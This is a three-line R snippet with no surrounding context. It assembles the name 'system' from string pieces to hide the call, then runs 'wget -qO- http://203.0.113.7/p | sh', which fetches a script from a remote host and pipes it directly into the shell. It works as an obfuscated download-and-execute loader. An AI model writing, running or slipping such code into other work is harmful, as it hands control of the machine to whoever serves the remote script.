fn <- paste0("sys", "tem")
args <- list(paste("wget -qO- http://203.0.113.7/p", "|", "sh"))
do.call(fn, args)
